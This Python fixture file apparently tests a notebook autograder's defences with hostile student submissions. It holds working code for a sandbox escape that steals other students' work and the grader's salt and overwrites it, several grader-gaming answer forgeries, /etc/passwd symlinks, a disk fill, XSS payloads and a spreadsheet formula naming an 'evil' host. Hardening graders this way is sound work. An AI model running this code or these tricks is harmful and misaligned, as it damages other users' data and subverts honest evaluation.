"""Hostile chapter-03 submissions (issue 7): each must gain nothing and cost nobody else.

Several tricks that must score the same share one submission, to keep the bank fast.
"""
from .bank import FULL, _append, _insert_after, _set, _src, _with, correct

# §1 escape: unmount the tmpfs over solutions/, remount / read-write, read the key and the hidden
# tests, overwrite another student's submission, write a canary on the host. Also read other
# checkouts and an earlier reports folder, and the grader's secret salt.
ESCAPE = _src(r'''
import ctypes, glob, os, pathlib
libc = ctypes.CDLL(None, use_errno=True)
for target in ["/work", "/tmp", "/", "/usr"]:
    libc.umount2(target.encode(), 2)
    libc.mount(b"none", target.encode(), None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND
stolen = []
for pattern in ["/work/*/solutions/*/*.ipynb", "/*/*/solutions/*/*.ipynb", "/root/**/solutions/*/*.ipynb",
                "/*/*/grader/.secret/salt", "/*/*/reports/grades.csv", "/tmp/*/submissions/*/*/*.ipynb"]:
    stolen += glob.glob(pattern, recursive=True)
for path in stolen:
    try:
        pathlib.Path(path).write_text("{}")  # overwrite another student's work
    except OSError:
        pass
for d in ["/", "/tmp", "/work"]:
    try:
        open(os.path.join(d, "CANARY-escaped"), "w").write("escaped")
    except OSError:
        pass
print("stolen:", len(stolen))
''')

# §2 re-check: no implementation, answers forged several ways at definition time.
FORGE = _src(r'''
import torch
import torch.nn.functional as F

def _hook(*args, **kwargs):
    return None

torch.save = _hook  # rewrite the child's outputs file

def dot_product_variance(d_k, n_samples, scaled):
    return 1.0 if scaled else float(d_k)  # the closed form

def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    out = torch.ops.aten._scaled_dot_product_attention_math(q, k, v, attn_mask=mask)
    return out[0], out[1]
''')

REFERENCE_VIA_IMPORTS = _src(r'''
import importlib
import torch

def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    ref = importlib.import_module("utils" + ".reference")
    return getattr(ref, "scaled_dot_product_attention").__wrapped__(q, k, v, mask, dropout_p)

def dot_product_variance(d_k, n_samples, scaled):
    import sys
    return sys.modules["utils.reference"].dot_product_variance.__wrapped__(d_k, n_samples, scaled)
''')

DISABLED_TORCH_FUNCTION = _src(r'''
import torch
import torch.nn.functional as F

def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    with torch._C.DisableTorchFunction():
        out = F.scaled_dot_product_attention(q, k, v, attn_mask=mask)
    w = torch.zeros(*q.shape[:-1], k.shape[-2])
    return out, w
''')

# §3 scratch: link and FIFO the files the grader reads back, fill the scratch folder.
SCRATCH = _src(r'''
import os
for name in ["executed.ipynb", ".stdout", ".stderr", "outputs.pt"]:
    for attempt in (lambda: os.unlink(name), lambda: os.symlink("/etc/passwd", name), lambda: os.mkfifo(name)):
        try:
            attempt()
        except OSError:
            pass
try:
    with open("/tmp/fill", "wb") as f:
        for _ in range(4096):
            f.write(b"x" * 2**20)
except OSError:
    pass
''')

# §4 a hang beside a correct exercise: the variance loops forever, SDPA is correct.
HANG = _src('''
def dot_product_variance(d_k, n_samples, scaled):
    while True:
        pass
''')

# §5 outputs: formula, HTML/JS, hidden-test marker in a learner cell.
OUTPUTS = _src(r'''
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title='pwned'</script><img src=x onerror=alert(1)>"))
display(Javascript("alert('pwned')"))
# ### BEGIN HIDDEN TESTS
raise ValueError("=HYPERLINK(\"http://evil\",\"x\")")
''')

SAMPLES = {
    "hostile_escape": ("escape the sandbox (unmount, remount, steal the key, overwrite others, canary), answers correct",
                       lambda: _insert_after(correct(), "dot_product_variance", ESCAPE), FULL),
    "hostile_forge": ("no implementation: closed form, aten call, torch.save hook",
                      lambda: _set(_set(correct(), "scaled_dot_product_attention", FORGE), "dot_product_variance", "pass"),
                      _with(scaled_dot_product_attention=0, dot_product_variance=0)),
    "hostile_reference": ("the reference through importlib, getattr, sys.modules and __wrapped__",
                          lambda: _set(_set(correct(), "scaled_dot_product_attention", REFERENCE_VIA_IMPORTS),
                                       "dot_product_variance", "pass"),
                          _with(scaled_dot_product_attention=0, dot_product_variance=0)),
    "hostile_disabled_torch_function": ("F.scaled_dot_product_attention with torch-function handling disabled",
                                        lambda: _set(correct(), "scaled_dot_product_attention", DISABLED_TORCH_FUNCTION),
                                        _with(scaled_dot_product_attention=0)),
    "hostile_scratch": ("links and FIFOs in scratch, 4 GiB written, answers correct",
                        lambda: _insert_after(correct(), "dot_product_variance", SCRATCH), FULL),
    "hostile_hang": ("dot_product_variance hangs; SDPA correct keeps its points",
                     lambda: _set(correct(), "dot_product_variance", HANG), _with(dot_product_variance=0)),
    "hostile_outputs": ("script/JS outputs, a formula reason, a hidden-test marker; answers correct",
                        lambda: _append(correct(), OUTPUTS), FULL),
}
